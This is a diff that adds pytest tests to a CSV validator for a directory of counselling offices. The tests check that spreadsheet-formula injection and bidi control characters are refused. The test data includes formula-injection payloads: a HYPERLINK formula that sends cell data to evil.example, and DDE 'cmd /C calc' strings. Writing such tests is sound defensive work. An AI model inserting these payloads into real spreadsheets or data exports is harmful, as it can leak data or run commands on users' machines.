@@ -13,6 +13,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from finder.directory import (
+    FORMULA_START_ALLOWED,
     OFFICE_COLUMNS,
     REQUIRED_COLUMNS,
     DirectoryError,
@@ -522,3 +523,105 @@ def test_longest_id_passes(tmp_path):
 def test_c0_and_c1_control_characters_are_refused(tmp_path, control):
     problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{"notes": f"a{control}b"}]))
     assert problem.field == "notes" and "control characters" in problem.message
+
+
+# --- spreadsheet formulas and bidi controls (review D3, D11) ----------------------------------------
+
+# The values of the review's 12_formula.csv, each in the field it was found in.
+REVIEW_FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")',
+    "provider": "+cmd|' /C calc'!A0",
+    "opening_hours": "-2+3+cmd|' /C calc'!A0",
+    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "target_group_original": "\t=1+1",
+    "street": "=1+1",
+}
+
+
+# Columns whose only rules are the generic ones (no format of their own).
+FREE_TEXT = ("name", "provider", "street", "city", "target_group_original", "opening_hours", "notes",
+             "geocode_source")  # fmt: skip
+
+
+def formula_problems(path: Path) -> list[tuple[int, str]]:
+    return [(p.line, p.field) for p in validate_file(path) if "spreadsheet formula" in p.message]
+
+
+@pytest.mark.parametrize(("column", "value"), REVIEW_FORMULAS.items())
+def test_review_formulas_are_refused(tmp_path, column, value):
+    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{column: value}]))
+    assert (problem.line, problem.field) == (2, column)
+    assert "spreadsheet formula" in problem.message
+
+
+def test_every_column_refuses_a_formula_with_one_message(tmp_path):
+    # One row per column, each with "=1+1" there: every row is refused for that column, with one message.
+    rows = [{column: "=1+1"} for column in OFFICE_COLUMNS]
+    path = make_offices_csv(tmp_path / "o.csv", rows)
+    by_line = {}
+    for problem in validate_file(path):
+        by_line.setdefault(problem.line, []).append(problem)
+    for line, column in enumerate(OFFICE_COLUMNS, start=2):
+        fields = [p.field for p in by_line[line]]
+        if column in ("lat", "lon"):  # and messages about the missing other coordinate and precision
+            assert fields.count(column) == 1, by_line[line]
+        else:
+            assert fields == [column], by_line[line]
+        # Columns without a format of their own say why; the others say what format they expect.
+        if column in FREE_TEXT:
+            assert "spreadsheet formula" in by_line[line][0].message
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "  @"])
+def test_every_formula_start_is_refused_in_free_text(tmp_path, start):
+    path = make_offices_csv(tmp_path / "o.csv", [{"city": "CITY"}])
+    # Quoted by hand: the csv module leaves a lone CR unquoted, which is a broken row, not a formula.
+    text = path.read_text(encoding="utf-8").replace("CITY", f'"{start}Dresden"')
+    path.write_bytes(text.encode("utf-8"))
+    assert formula_problems(path) == [(2, "city")]
+
+
+def test_allowed_leading_characters_are_data_driven(tmp_path):
+    assert FORMULA_START_ALLOWED["phone"] == "+"
+    rows = [{"phone": "+49 351 1234-5"}, {"lat": "-51.05", "lon": "-13.74", "geocode_precision": "place"}]
+    path = make_offices_csv(tmp_path / "o.csv", rows)
+    # The coordinates are refused as outside Saxony, not as formulas; the phone number is fine.
+    assert formula_problems(path) == []
+    assert problems_of(path) == [(3, "lat"), (3, "lon")]
+    # A formula disguised as a phone number still fails the phone rule.
+    path = make_offices_csv(tmp_path / "p.csv", [{"phone": "+cmd|' /C calc'!A0"}])
+    assert only_problem(path).field == "phone"
+    assert only_problem(make_offices_csv(tmp_path / "q.csv", [{"phone": "=0351 1234"}])).field == "phone"
+
+
+def test_dashes_and_signs_inside_a_value_are_fine(tmp_path):
+    rows = [{"opening_hours": "Mo-Fr 9-12 Uhr; Di +Do 14-16", "notes": "Haus B - 2. Stock, E-Mail @ Empfang",
+             "name": "Beratung für Frauen (+ Kinder)", "street": "Str. des 17. Juni 1"}]  # fmt: skip
+    assert validate_file(make_offices_csv(tmp_path / "o.csv", rows)) == []
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    column=st.sampled_from(FREE_TEXT),
+    start=st.sampled_from("=+-@\t"),  # CR: see test_every_formula_start_is_refused_in_free_text
+    rest=st.text(
+        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), max_size=40
+    ),
+)
+def test_any_formula_start_in_free_text_is_refused(tmp_path, column, start, rest):
+    path = make_offices_csv(tmp_path / "o.csv", [{column: start + rest}])
+    # Refused: as a formula, or for a control character or markup in ``rest`` (one message per value).
+    assert (2, column) in problems_of(path)
+
+
+@pytest.mark.parametrize("control", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
+def test_bidi_controls_are_refused(tmp_path, control):
+    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{"name": f"A{control}evil"}]))
+    assert problem.field == "name" and "bidi" in problem.message
+    assert f"\\u{ord(control):04x}" in problem.message  # shown escaped, not applied to the message
+
+
+def test_bidi_marks_in_arabic_and_persian_text_are_fine(tmp_path):
+    # LRM/RLM/ALM settle where brackets and digits go in mixed-direction text; ZWNJ joins Persian letters.
+    rows = [{"name": "مرکز مشاوره\u200c ها (Dresden)\u200f", "notes": "\u200eMBE\u200e مركز \u061c(2)"}]
+    assert validate_file(make_offices_csv(tmp_path / "o.csv", rows)) == []
